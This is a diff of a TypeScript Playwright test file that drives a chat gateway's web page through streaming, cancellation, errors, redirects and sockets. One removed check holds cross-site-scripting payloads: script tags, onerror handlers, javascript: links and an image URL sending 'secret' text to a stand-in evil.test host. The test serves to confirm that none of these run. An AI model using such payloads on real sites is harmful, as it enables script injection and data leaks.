@@ -2,20 +2,36 @@
  * `npm run test:browser`: the chat page of `npm start` in Chromium, over a Bedrock that counts who leaves early. Prints a line for each
  * check and where the screenshots are, and ends with 1 when a check failed; where there is no Chromium it says so and ends with 0.
  */
+import { once } from 'node:events';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer } from 'node:http';
+import { type AddressInfo, createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { type Browser, type BrowserContextOptions, chromium, type Page } from 'playwright-core';
+import { type Browser, chromium } from 'playwright-core';
 import { startBedrockSimulator } from '../../src/local/bedrock/simulator.ts';
-import { until } from '../helpers/gateway.ts';
-import { ACCESS_KEY, KEY, type Running, runScript, start, stop } from '../helpers/process.ts';
+import { ACCESS_KEY, chat, KEY, type Running, runScript, start, stop } from '../helpers/process.ts';
+import {
+  checkAsking,
+  checkCutStream,
+  checkDeep,
+  checkErrors,
+  checkGone,
+  checkHostile,
+  checkLearned,
+  checkLeaving,
+  checkParts,
+  checkReasoning,
+  checkReconnecting,
+  checkSocket,
+  checkStopping,
+  checkStoppingAtOnce,
+  checkUnreachable,
+} from './answers.ts';
+import { ask, factsOf, LONG, type Opened, openPage, QUESTION, reach, textOf, turn } from './chat-page.ts';
 import { check, expect, inChromium } from './chromium.ts';
 
-const QUESTION = 'What is a Faraday cage?';
 const CURATED = 'What should I check first when a whole site is down?';
-/** Comes in 120 pieces of 20 ms. */
-const LONG = `ECHO ${'all of this takes a while '.repeat(100)}`;
-
 const ILLUSTRATED = {
   pk: 'How large may the holes of a Faraday cage be?',
   answer: `Small beside the **wavelength** that is to stay out: a tenth of it is a good rule.
@@ -33,98 +49,6 @@ const largestHole = (hertz: number) => SPEED_OF_LIGHT / hertz / 10;
 \`\`\``,
 };
 
-type Opened = {
-  readonly page: Page;
-  /** What the console and the page itself complained of. */
-  readonly problems: string[];
-  /** Hosts that were asked for anything. */
-  readonly hosts: Set<string>;
-};
-
-async function openPage(browser: Browser, url: string, options: BrowserContextOptions = {}): Promise<Opened> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 820 }, ...options });
-  const page = await context.newPage();
-  page.setDefaultTimeout(15_000);
-  const problems: string[] = [];
-  const hosts = new Set<string>();
-  page.on('console', (message) => {
-    if (['error', 'warning'].includes(message.type())) problems.push(message.text());
-  });
-  page.on('pageerror', (error) => problems.push(error.message));
-  page.on('dialog', (dialog) => {
-    problems.push(`a dialog: ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on('request', (request) => hosts.add(new URL(request.url()).host));
-  await page.goto(url);
-  return { page, problems, hosts };
-}
-
-/** The newest turn. */
-const turn = (page: Page) => page.locator('.turn').last();
-
-async function ask(page: Page, question: string) {
-  const before = await page.locator('.turn').count();
-  await page.fill('#question', question);
-  await page.press('#question', 'Enter');
-  await page.locator('.turn').nth(before).waitFor();
-}
-
-/** Waits for the end of the newest answer. */
-async function reach(page: Page, state: string) {
-  await page
-    .locator(`.turn:last-child:not([data-state=answering], [data-state=waiting])[data-state]`)
-    .waitFor();
-  const reached = await turn(page).getAttribute('data-state');
-  expect(reached === state, `the answer ended as ${reached}`);
-}
-
-const textOf = (page: Page) => turn(page).locator('.text').innerText();
-const factsOf = (page: Page) => turn(page).locator('.facts').innerText();
-
-/** Runs in the page: the lengths of the text that it shows, frame by frame. */
-const watchLengths = `window.lengths = []; (function look() {
-  const length = document.querySelector('.turn:last-child .text')?.textContent.length ?? 0;
-  if (length !== window.lengths.at(-1)) window.lengths.push(length);
-  requestAnimationFrame(look);
-})()`;
-
-async function checkAsking({ page }: Opened): Promise<string> {
-  await page.evaluate(watchLengths);
-  await ask(page, QUESTION);
-  await reach(page, 'complete');
-  const lengths = (await page.evaluate('window.lengths')) as number[];
-  const rises = lengths.filter((length, index) => length > (lengths[index - 1] ?? 0));
-  expect(rises.length > 10, `the text grew in ${rises.length} steps`);
-  const facts = await factsOf(page);
-  expect(/first token \d+ ms/.test(facts) && /\d tokens\/s/.test(facts) && /\d out/.test(facts), facts);
-  const plot = await turn(page).getByRole('img').getAttribute('aria-label');
-  expect(/The text arrived in \d{2,} pieces/.test(plot ?? ''), `${plot}`);
-  expect((await page.textContent('#announcer')) === 'Answer finished.', 'nothing was announced');
-  return `${rises.length} steps; ${facts.replaceAll('\n', ', ')}`;
-}
-
-type Upstream = { readonly ledger: { readonly closedEarly: number; readonly open: number } };
-
-async function checkStopping(
-  { page }: Opened,
-  { ledger }: Upstream,
-  how: () => Promise<void>,
-): Promise<string> {
-  const before = ledger.closedEarly;
-  await ask(page, LONG);
-  // The page forbids to evaluate a text, which waiting for a function does.
-  while ((await textOf(page)).length < 100) await page.waitForTimeout(20);
-  const askedAt = performance.now();
-  await how();
-  await reach(page, 'cancelled');
-  const shownMs = Math.round(performance.now() - askedAt);
-  await until(() => ledger.open === 0);
-  expect(ledger.closedEarly === before + 1, `Bedrock saw ${ledger.closedEarly - before} leave early`);
-  expect((await turn(page).innerText()).includes('Stopped before its end.'), 'it does not say so');
-  return `cancelled is shown after ${shownMs} ms, and Bedrock’s answer was closed early`;
-}
-
 async function checkReload({ page }: Opened): Promise<string> {
   const address = page.url();
   expect(/#chat=[\w-]+$/.test(address), address);
@@ -136,34 +60,6 @@ async function checkReload({ page }: Opened): Promise<string> {
   const current = await page.locator('#chats a[aria-current=page]').innerText();
   expect(current.startsWith(QUESTION), current);
   return `${questions.length} turns, and “${current.split('\n')[0]}” is marked in the list`;
-}
-
-/** Its answer is not the business of the conversation that is open by then. */
-async function checkLeaving({ page }: Opened): Promise<string> {
-  await page.click('#new-chat');
-  await ask(page, `ECHO ${'word '.repeat(80)}`);
-  await page.locator('.turn[data-state=answering]').waitFor();
-  await page.waitForURL(/#chat=/);
-  await page.click('#new-chat');
-  expect((await page.locator('.turn').count()) === 0, 'the new conversation is not empty');
-  expect(await page.locator('#send').isVisible(), 'the new conversation cannot be asked');
-  await page.goBack();
-  await page.locator('.turn[data-state=answering]').waitFor();
-  await reach(page, 'complete');
-  expect((await textOf(page)).trim().split(' ').length === 80, await textOf(page));
-  await page.locator('#chats a[aria-current]', { hasText: 'ECHO word' }).waitFor();
-  return 'it went on, and was there when its conversation was opened again';
-}
-
-async function checkSocket({ page }: Opened): Promise<string> {
-  const sockets: string[] = [];
-  page.on('websocket', (socket) => sockets.push(socket.url()));
-  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
-  await ask(page, `${QUESTION} And why?`);
-  await reach(page, 'complete');
-  expect((await textOf(page)).includes('Faraday'), await textOf(page));
-  expect(sockets.length === 1, `${sockets.length} sockets`);
-  return `${await factsOf(page)}`.replaceAll('\n', ', ');
 }
 
 /** The samples, and one for the pictures. */
@@ -186,79 +82,6 @@ async function checkCurated({ page }: Opened, gateway: Running): Promise<string>
   expect((await turn(page).locator('.badge').innerText()) === 'Curated', await factsOf(page));
   expect((await turn(page).locator('ol > li').count()) === 4, 'its list is no list');
   return (await factsOf(page)).replaceAll('\n', ', ');
-}
-
-const HOSTILE = `ECHO <script>window.hacked = 'script'</script>
-<img src="x" onerror="window.hacked = 'onerror'"> <svg onload="window.hacked = 'svg'"></svg>
-
-[link](javascript:window.hacked='link') <a href="javascript:window.hacked='html'">html</a> [here](/v1/chats)
-
-![the conversation](https://evil.test/pixel.png?said=secret) <iframe src="https://evil.test/"></iframe>
-
-<style>body { background: url(https://evil.test/style) }</style>
-
-[good](https://example.test/page)`;
-
-async function checkHostile({ page, hosts }: Opened): Promise<string> {
-  await ask(page, HOSTILE);
-  await reach(page, 'complete');
-  const answer = turn(page).locator('.text');
-  for (const link of await answer.locator('a').all())
-    expect((await link.getAttribute('target')) === '_blank', 'a link');
-  const addresses = await answer
-    .locator('a[href]')
-    .evaluateAll((links) => links.map((link) => `${link.getAttribute('href')} ${link.getAttribute('rel')}`));
-  const safe = ['https://evil.test/pixel.png?said=secret', 'https://example.test/page'];
-  expect(addresses.join() === safe.map((url) => `${url} noopener noreferrer`).join(), addresses.join());
-  expect(
-    (await answer.locator('img, script, svg, iframe, style, [onerror]').count()) === 0,
-    'elements of the answer',
-  );
-  expect(
-    (await answer.innerText()).includes("<script>window.hacked = 'script'</script>"),
-    'HTML is not shown as text',
-  );
-  await page.waitForTimeout(100);
-  expect((await page.evaluate('window.hacked')) === undefined, `${await page.evaluate('window.hacked')} ran`);
-  expect(
-    [...hosts].every((host) => host.startsWith('127.0.0.1:')),
-    [...hosts].join(),
-  );
-  return `nothing ran, and only ${[...hosts].join()} was asked`;
-}
-
-async function chooseModel(page: Page, id: string) {
-  await page.selectOption('#model', { label: 'Another model' });
-  await page.fill('#other-model', id);
-}
-
-async function checkErrors(opened: Opened): Promise<string> {
-  const { page, problems } = opened;
-  const said: string[] = [];
-  for (const door of ['SSE', 'WebSocket']) {
-    await page.getByRole('radio', { name: door }).check({ force: true });
-    for (const fault of ['reset-mid-stream', 'throttled']) {
-      await chooseModel(page, `simulator.${fault}`);
-      await ask(page, `${QUESTION} ${door} ${fault}`);
-      await reach(page, 'failed');
-      const note = await turn(page).locator('.note').innerText();
-      expect(/^[A-Z].+\.\n/.test(note) && /Request [\w-]{36}/.test(note), note);
-      expect(
-        (await turn(page).getByRole('button', { name: 'Try again' }).count()) === 1,
-        `no way back: ${note}`,
-      );
-      said.push(note.split('\n')[0] ?? '');
-    }
-  }
-  await page.selectOption('#model', { index: 0 });
-  await turn(page).getByRole('button', { name: 'Try again' }).click();
-  await reach(page, 'complete');
-  await page.getByRole('radio', { name: 'SSE' }).check({ force: true });
-  // Chromium itself writes down a status of 429; nothing else may be there.
-  const expected = problems.filter((problem) => /status of 429/.test(problem));
-  expect(expected.length === 1 && problems.length === 1, problems.join('; '));
-  problems.length = 0;
-  return [...new Set(said)].join(' | ');
 }
 
 /** In a conversation that is longer than the screen. */
@@ -305,34 +128,6 @@ async function checkSettings({ page }: Opened): Promise<string> {
   return 'cut at 25 tokens, not kept, and what was said is sent along';
 }
 
-/** A gateway whose stream is cut on its way, which the page must not take for whole. */
-async function checkCutStream({ page }: Opened): Promise<string> {
-  const body =
-    'event: start\ndata: {"model":"m","cached":false}\n\nevent: delta\ndata: {"text":"Half of"}\n\n';
-  await page.route('**/v1/chat', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
-  await ask(page, 'Will you be cut?');
-  await reach(page, 'failed');
-  await page.unroute('**/v1/chat');
-  const shown = await turn(page).innerText();
-  expect(shown.includes('Half of') && shown.includes('The answer broke off before its end.'), shown);
-  return 'The answer broke off before its end.';
-}
-
-async function checkUnreachable({ page, problems }: Opened): Promise<string> {
-  await page.route('**/v1/chat', (route) => route.abort());
-  await ask(page, 'Is anybody there?');
-  await reach(page, 'failed');
-  await page.unroute('**/v1/chat');
-  expect(
-    problems.every((problem) => problem.includes('ERR_FAILED')),
-    problems.join('; '),
-  );
-  problems.length = 0;
-  const note = await turn(page).locator('.note p').first().innerText();
-  expect(/cannot be reached/.test(note), note);
-  return note;
-}
-
 async function checkSigned({ page }: Opened, { functionUrl }: Running): Promise<string> {
   await page.click('#open-connection');
   await page.getByRole('radio', { name: 'A gateway elsewhere' }).check({ force: true });
@@ -376,6 +171,110 @@ async function checkKeyPanel(browser: Browser, gateway: Running): Promise<string
   expect(problems.length === 1 && /status of 401/.test(problems.join()), problems.join('; '));
   await page.context().close();
   return sentence;
+}
+
+const CHATS = 105;
+
+/** More than a page, and more than the longest page that the gateway gives. */
+async function checkLongList(browser: Browser, gateway: Running): Promise<string> {
+  for (let made = 0; made < CHATS; made += 15)
+    await Promise.all(
+      Array.from({ length: 15 }, (_, n) =>
+        chat(gateway.url, { prompt: `ECHO chat ${made + n}` }).then((r) => r.text()),
+      ),
+    );
+  const { page, problems } = await openPage(browser, gateway.url);
+  await page.locator('#laptop-key').fill(KEY);
+  await page.keyboard.press('Enter');
+  const more = page.getByRole('button', { name: 'More', exact: true });
+  const links = page.locator('#chats a');
+  await more.waitFor();
+  expect((await links.count()) === 20, `${await links.count()} at first`);
+  await more.dblclick();
+  await links.nth(39).waitFor();
+  while (await more.isVisible()) {
+    const shown = await links.count();
+    await more.click();
+    await links.nth(shown).waitFor();
+  }
+  const addresses = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
+  expect(new Set(addresses).size === addresses.length, 'a conversation is there twice');
+  expect(addresses.length >= CHATS, `${addresses.length} in the end`);
+  await page.locator('#chats .delete').first().click();
+  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete' }).click();
+  await links.nth(100).waitFor({ state: 'detached' });
+  expect((await links.first().getAttribute('href')) === addresses[1], 'it is still there');
+  expect(problems.length === 0, problems.join('; '));
+  await page.context().close();
+  return `${addresses.length} conversations, by twenties; one of them deleted`;
+}
+
+async function connectElsewhere({ page }: Opened, url: string, webSocketUrl: string, key: string) {
+  if (!(await page.locator('#connection').isVisible())) await page.click('#open-connection');
+  await page.getByRole('radio', { name: 'A gateway elsewhere' }).check({ force: true });
+  await page.getByLabel('URL', { exact: true }).fill(url);
+  await page.locator('#key').fill(key);
+  await page.getByLabel('WebSocket URL').fill(webSocketUrl);
+  await page.click('#connect');
+}
+
+/** One that is not the page's own, by key. */
+async function checkElsewhere(opened: Opened, elsewhere: Running): Promise<string> {
+  const { page, problems } = opened;
+  await connectElsewhere(opened, elsewhere.url, elsewhere.socketUrl, 'a-wrong-key');
+  const refusal = page.locator('#connection-problem', { hasText: 'This API key is not known.' });
+  await refusal.waitFor();
+  problems.length = 0;
+  await connectElsewhere(opened, elsewhere.url, elsewhere.socketUrl, KEY);
+  await page.locator('#connection').waitFor({ state: 'hidden' });
+  expect(
+    (await page.textContent('#place')) === new URL(elsewhere.url).host,
+    `${await page.textContent('#place')}`,
+  );
+  for (const door of ['SSE', 'WebSocket']) {
+    await page.getByRole('radio', { name: door }).check({ force: true });
+    await ask(page, `ECHO elsewhere by ${door}`);
+    await reach(page, 'complete');
+  }
+  await page.locator('#chats a[aria-current]', { hasText: 'ECHO elsewhere by SSE' }).waitFor();
+  expect(!(await page.locator('#model').innerText()).includes('embed'), 'a model that embeds is offered');
+  expect(problems.length === 0, problems.join('; '));
+  return `${await page.textContent('#place')} answers by SSE and by WebSocket`;
+}
+
+/** Its keys are not for whoever it points at. */
+async function checkRedirected(opened: Opened): Promise<string> {
+  const { page } = opened;
+  const seen: string[] = [];
+  const stranger = createHttpServer(({ method, url = '', headers }, response) => {
+    seen.push(`${method} ${url}`);
+    response.setHeader('access-control-allow-origin', headers.origin ?? '*');
+    response.setHeader('access-control-allow-headers', '*');
+    response.writeHead(method === 'OPTIONS' ? 204 : 307, { location: '/elsewhere' }).end();
+  });
+  await once(stranger.listen(0, '127.0.0.1').unref(), 'listening');
+  const { port } = stranger.address() as AddressInfo;
+  await connectElsewhere(opened, `http://127.0.0.1:${port}`, '', KEY);
+  await page.locator('#connection-problem', { hasText: 'cannot be reached' }).waitFor();
+  expect(seen.includes('GET /v1/models'), seen.join());
+  expect(!seen.some((call) => call.includes('/elsewhere')), seen.join());
+  await page.click('#close-connection');
+  return 'it is not followed';
+}
+
+/** Where somebody takes connections and says nothing. */
+async function checkSilentSocket(opened: Opened, elsewhere: Running): Promise<string> {
+  const { page } = opened;
+  const silent = createServer().listen(0, '127.0.0.1').unref();
+  await once(silent, 'listening');
+  const { port } = silent.address() as AddressInfo;
+  await connectElsewhere(opened, elsewhere.url, `ws://127.0.0.1:${port}`, KEY);
+  await page.locator('#connection').waitFor({ state: 'hidden' });
+  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
+  await ask(page, 'Is anybody there?');
+  await page.keyboard.press('Escape');
+  await reach(page, 'cancelled');
+  return 'Stop ends the waiting';
 }
 
 /** The ring of what is focused, or of the form or the choice around it. Runs in the page. */
@@ -560,10 +459,8 @@ async function takePictures({ page }: Opened, folder: string): Promise<string> {
 
 async function main(executablePath: string) {
   const upstream = await startBedrockSimulator();
-  const [gateway, guarded] = await Promise.all([
-    start({ LOCAL_API_KEYS: '', AWS_ENDPOINT_URL_BEDROCK_RUNTIME: upstream.url }),
-    start(),
-  ]);
+  const gateway = await start({ LOCAL_API_KEYS: '', AWS_ENDPOINT_URL_BEDROCK_RUNTIME: upstream.url });
+  const guarded = await start({ ALLOWED_ORIGINS: gateway.url });
   const browser = await chromium.launch({ executablePath });
   const opened = await openPage(browser, gateway.url);
   const { page, problems } = opened;
@@ -576,7 +473,11 @@ async function main(executablePath: string) {
   await check('a reload finds the conversation', () => checkReload(opened));
   await check('the WebSocket', () => checkSocket(opened));
   await check('Stop over the WebSocket', () => checkStopping(opened, upstream, () => page.click('#stop')));
+  await check('Stop at once', () => checkStoppingAtOnce(opened, upstream));
+  await check('a question in parts', () => checkParts(opened));
   await check('a curated answer', () => checkCurated(opened, gateway));
+  await check('a learned answer', () => checkLearned(opened));
+  await check('reasoning', () => checkReasoning(opened));
   await check('an answer whose conversation is left', () => checkLeaving(opened));
   await check('script in an answer', () => checkHostile(opened));
   await check('the console', async () => {
@@ -593,7 +494,18 @@ async function main(executablePath: string) {
   await check('a phone', () => checkPhone(opened));
   await check('screenshots', () => takePictures(opened, mkdtempSync(join(tmpdir(), 'page-'))));
   await check('keys alone', () => checkKeyboard(browser, gateway.url));
+  await check('an answer nested thousands deep', async () => checkDeep(await openPage(browser, gateway.url)));
+  await check('a page that is left', async () =>
+    checkGone(await openPage(browser, gateway.url), gateway.output),
+  );
   await check('a key is asked for', () => checkKeyPanel(browser, guarded));
+  await check('a long list', () => checkLongList(browser, guarded));
+  const reconnecting = await openPage(browser, gateway.url);
+  await check('a socket that is closed', () => checkReconnecting(reconnecting));
+  const calling = await openPage(browser, gateway.url);
+  await check('a gateway elsewhere', () => checkElsewhere(calling, guarded));
+  await check('a gateway that points elsewhere', () => checkRedirected(calling));
+  await check('a socket that says nothing', () => checkSilentSocket(calling, guarded));
   const signed = await openPage(browser, gateway.url);
   await check('AWS credentials', () => checkSigned(signed, gateway));
   await check('the console, in the end', async () => {
